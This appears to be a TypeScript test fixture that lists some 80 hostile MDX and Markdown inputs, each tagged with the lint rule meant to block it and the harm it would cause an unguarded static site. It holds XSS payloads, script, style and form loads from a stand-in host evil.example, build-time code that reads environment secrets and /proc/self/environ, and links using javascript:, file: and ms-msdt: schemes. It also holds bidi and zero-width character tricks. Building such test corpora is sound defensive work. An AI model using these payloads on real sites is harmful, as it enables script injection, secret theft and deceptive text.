/**
 * Briefings that attack: each with the rule that refuses it, and what it does to a site where nothing does.
 */

/** What an unguarded site suffers. */
export type Harm =
  /** Code from the content runs while the site is built. */
  | 'runs'
  /** Markup that acts in the reader's browser, or asks another host for something. */
  | 'markup'
  /** A link that runs a program, opens a file or leads elsewhere than it seems. */
  | 'link'
  /** A reach into the program: something is rendered that no policy names. */
  | 'reach'
  /** What readers see is not what programs read. */
  | 'text';

export interface Attack {
  readonly name: string;
  readonly harm: Harm;
  readonly rule: string;
  /** Line of the prose, from 1. */
  readonly line: number;
  readonly body: string;
}

type Row = readonly [name: string, harm: Harm, rule: string, line: number, body: string];

const run = 'globalThis.pwned = 1';
const env = 'process.env.SHUZHENG_SECRET';

// biome-ignore format: columns
const rows: readonly Row[] = [
  // Modules.
  ['an import of the file system',      'runs', 'no-import-export', 1, `import { readFileSync } from 'node:fs'\nexport const pwned = globalThis.pwned = readFileSync('/proc/self/environ').length`],
  ['an import for its effect',          'runs', 'no-import-export', 1, `import 'data:text/javascript,globalThis.pwned=1'`],
  ['an export',                         'runs', 'no-import-export', 1, `export const x = (${run})`],
  ['an export after prose',             'runs', 'no-import-export', 3, `正文。\n\nexport const x = (${run})`],
  ['an exported function that a layout calls', 'runs', 'no-import-export', 1, `export default function Layout() { ${run}; return null }\n\n正文。`],
  ['a re-export',                       'runs', 'no-import-export', 1, `export { default as x } from 'data:text/javascript,globalThis.pwned=1;export default 1'`],
  ['an export over several lines',      'runs', 'no-import-export', 1, `export const x = [\n  ${run},\n]`],
  ['an export of a class with a static block', 'runs', 'no-import-export', 1, `export class X { static { ${run} } }`],
  ['an export that waits',              'runs', 'no-import-export', 1, `export const x = await (async () => { ${run} })()`],
  ['a child process',                   'runs', 'no-import-export', 1, `import { execFileSync } from 'node:child_process'\nexport const x = globalThis.pwned = execFileSync('true').length + 1`],
  // Expressions.
  ['an expression between paragraphs',  'runs', 'no-expression', 1, `{${run}}`],
  ['an expression within one',          'runs', 'no-expression', 1, `正文 {${run}} 正文`],
  ['the environment, printed',          'runs', 'no-expression', 1, `价格 {${env}}`],
  ['an expression in a heading',        'runs', 'no-expression', 1, `## {${env}}`],
  ['an expression in a list',           'runs', 'no-expression', 2, `- 甲\n- {${env}}`],
  ['an expression in a deep list',      'runs', 'no-expression', 3, `- 甲\n  - 乙\n    - {${env}}`],
  ['an expression in a quotation',      'runs', 'no-expression', 1, `> {${env}}`],
  ['an expression in a link text',      'runs', 'no-expression', 1, `[{${env}}](#a)`],
  ['an expression in emphasis',         'runs', 'no-expression', 1, `**{${env}}**`],
  ['an expression over lines',          'runs', 'no-expression', 2, `正文。\n{\n  ${run}\n}`],
  ['a template',                        'runs', 'no-expression', 1, `{\`\${${env}}\`}`],
  ['a function made of text',           'runs', 'no-expression', 1, `{''.constructor.constructor('${run}')()}`],
  ['a function called at once',         'runs', 'no-expression', 1, `{(() => { ${run} })()}`],
  ['an import that waits',              'runs', 'no-expression', 1, `{void import('data:text/javascript,globalThis.pwned=1').then(() => { ${run} }) || (${run})}`],
  ['an expression of markup',           'markup', 'no-expression', 1, `{<img src="x" onerror="alert(1)" />}`],
  ['an expression behind a comment',    'runs', 'no-expression', 1, `{/* x */ ${run}}`],
  ['a getter',                          'runs', 'no-expression', 1, `{({ get x() { return ${run} } }).x}`],
  ['a tagged template',                 'runs', 'no-expression', 1, `{((s) => { ${run} })\`x\`}`],
  // Attributes.
  ['an expression as an attribute',     'runs', 'no-expression', 1, `<Fig id={(${run}, 'a')} />`],
  ['an expression among good attributes', 'runs', 'no-expression', 1, `<Chart figures="a" kind={(${run}, 'bar')} />`],
  ['a spread',                          'runs', 'no-spread', 1, `<Fig {...(${run}, { id: 'a' })} />`],
  ['a spread after a good attribute',   'runs', 'no-spread', 1, `正文<Fig id="a" {...(${run}, {})} />`],
  ['a spread on raw HTML',              'runs', 'no-raw-html', 1, `<b {...(${run}, {})}>x</b>`],
  // Raw HTML.
  ['a script',                          'markup', 'no-raw-html', 1, `<script src="https://evil.example/x.js"></script>`],
  ['a script with its program',         'markup', 'no-raw-html', 1, `<script>alert(1)</script>`],
  ['an image with a handler',           'markup', 'no-raw-html', 1, `<img src="x" onerror="alert(1)" />`],
  ['an image with a handler, within prose', 'markup', 'no-raw-html', 1, `正文 <img src="x" onerror="alert(1)" /> 正文`],
  ['a drawing with a handler',          'markup', 'no-raw-html', 1, `<svg onload="alert(1)"></svg>`],
  ['a frame',                           'markup', 'no-raw-html', 1, `<iframe src="javascript:alert(1)"></iframe>`],
  ['a frame with its page',             'markup', 'no-raw-html', 1, `<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>`],
  ['a style sheet',                     'markup', 'no-raw-html', 1, `<link rel="stylesheet" href="https://evil.example/x.css" />`],
  ['a style',                           'markup', 'no-raw-html', 1, `<style>@import "https://evil.example/x.css"</style>`],
  ['a base address',                    'markup', 'no-raw-html', 1, `<base href="https://evil.example/" />`],
  ['a redirect',                        'markup', 'no-raw-html', 1, `<meta http-equiv="refresh" content="0;url=https://evil.example/" />`],
  ['a form',                            'markup', 'no-raw-html', 1, `<form action="https://evil.example/"><input name="q" /></form>`],
  ['a field that takes the focus',      'markup', 'no-raw-html', 1, `<input autofocus="" onfocus="alert(1)" />`],
  ['a fold that opens',                 'markup', 'no-raw-html', 1, `<details open="" ontoggle="alert(1)"></details>`],
  ['an object',                         'markup', 'no-raw-html', 1, `<object data="data:text/html,&lt;script>alert(1)&lt;/script>"></object>`],
  ['a film with a handler',             'markup', 'no-raw-html', 1, `<video><source onerror="alert(1)" /></video>`],
  ['a link as HTML',                    'link', 'no-raw-html', 1, `<a href="javascript:alert(1)">x</a>`],
  ['HTML set past the escaping',        'markup', 'no-raw-html', 1, `<p set:html="<img src=x onerror=alert(1)>" />`],
  ['HTML in a list in a quotation',     'markup', 'no-raw-html', 1, `> - <img src="x" onerror="alert(1)" />`],
  ['a tag with a colon',                'markup', 'no-foreign-component', 1, `<svg:a onclick="alert(1)">x</svg:a>`],
  // Components.
  ['HTML inside a component',           'markup', 'no-children', 1, `<Fig id="a"><img src="x" onerror="alert(1)" /></Fig>\n\n<img src="x" onerror="alert(1)" />`],
  ['a way from a component to Function', 'reach', 'no-foreign-component', 1, `<Fig.constructor />`],
  ['a way from a component to its call', 'reach', 'no-foreign-component', 1, `正文 <Chart.toString /> 正文`],
  // Links.
  ['javascript:',                       'link', 'no-foreign-scheme', 1, `[x](javascript:alert(1))`],
  ['javascript: in mixed case',         'link', 'no-foreign-scheme', 1, `[x](JaVaScRiPt:alert(1))`],
  ['javascript: with a letter encoded', 'link', 'no-foreign-scheme', 1, `[x](&#106;avascript:alert(1))`],
  ['javascript: encoded in hexadecimal', 'link', 'no-foreign-scheme', 1, `[x](&#x6A;&#x61;vascript:alert(1))`],
  ['javascript: with its colon encoded', 'link', 'no-foreign-scheme', 1, `[x](javascript&colon;alert(1))`],
  ['javascript: in angle brackets',     'link', 'no-foreign-scheme', 1, `[x](<javascript:alert(1)>)`],
  ['javascript: escaped',               'link', 'no-foreign-scheme', 1, `[x](javascript\\:alert(1))`],
  ['javascript: by reference',          'link', 'no-foreign-scheme', 3, `[x][y]\n\n[y]: javascript:alert(1)`],
  ['javascript: by its own name',       'link', 'no-foreign-scheme', 3, `[x]\n\n[x]: <JAVASCRIPT:alert(1)>`],
  ['javascript: by a reference in a quotation', 'link', 'no-foreign-scheme', 3, `[x]\n\n> [x]: javascript:alert(1)`],
  ['javascript: in a heading',          'link', 'no-foreign-scheme', 1, `## [x](javascript:alert(1))`],
  ['javascript: in a list item',        'link', 'no-foreign-scheme', 1, `- **[x](javascript:alert(1))**`],
  ['a page in a link',                  'link', 'no-foreign-scheme', 1, `[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)`],
  ['a page in a link, in base64',       'link', 'no-foreign-scheme', 1, `[x](data:text/html;base64,PHNjcmlwdD4)`],
  ['vbscript:',                         'link', 'no-foreign-scheme', 1, `[x](vbscript:msgbox(1))`],
  ['a file',                            'link', 'no-foreign-scheme', 1, `[x](file:///etc/passwd)`],
  ['a name before the host',            'link', 'no-foreign-scheme', 1, `[x](https://example.org@evil.example/)`],
  ['a host without a scheme',           'link', 'no-relative-link', 1, `[x](//evil.example/)`],
  ['a program for another handler',     'link', 'no-foreign-scheme', 1, `[x](ms-msdt:/id)`],
  ['an image from elsewhere',           'markup', 'no-image', 1, `![x](https://evil.example/pixel.gif)`],
  ['an image by reference',             'markup', 'no-image', 1, `![x][y]\n\n[y]: https://evil.example/pixel.gif`],
  // Text.
  ['a number turned round',             'text', 'hidden-character', 1, `共\u202e365\u202c家`],
  ['a number turned round by an entity', 'text', 'hidden-character', 1, `共&#x202E;365&#x202C;家`],
  ['a number cut by nothing',           'text', 'hidden-character', 1, `共3\u200b65家`],
  ['letters from the tag block',        'text', 'hidden-character', 1, `共365家\u{e0041}\u{e0042}`],
];

export const attacks: readonly Attack[] = rows.map(([name, harm, rule, line, body]) => ({
  name,
  harm,
  rule,
  line,
  body,
}));
